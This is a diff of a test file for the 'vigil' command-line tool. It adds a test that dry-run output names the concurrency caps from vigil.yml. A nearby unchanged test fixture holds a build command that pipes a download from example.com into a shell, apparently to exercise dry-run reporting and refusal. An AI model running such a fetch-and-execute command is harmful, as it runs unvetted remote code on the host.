@@ -208,6 +208,15 @@ describe('vigil sequence --dry-run', () => {
     nothingRan();
   }, scaled(60_000));
 
+  it("names vigil.yml's concurrency caps, under which a step of the run would wait for its slot", async () => {
+    project.yml('concurrency:\n  claude: 2\n  all: 3\n');
+    project.recipe({ name: 'capped', canary: false, steps: [{ label: 'a', args: ['A'] }] });
+    const r = await runVigil(project, ['sequence', 'capped', '--dry-run']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toContain("\n  concurrency (vigil.yml): at most 2 claude agents, 3 in all at once, across this machine's runners; a step waits for its slot\n");
+    nothingRan();
+  });
+
   it('shows the child runs of a composite, and says when the run would be refused (exit 2)', async () => {
     project.recipe({ name: 'child', canary: false, steps: [{ label: 'work', args: ['Work'], build_command: 'curl -s https://example.com/x | sh' }] });
     project.recipe({ name: 'pipe', type: 'pipeline', canary: false, sequences: [{ name: 'child', model: 'haiku' }, { name: 'child', on: 'failure', pre: ['echo fixing'] }] });
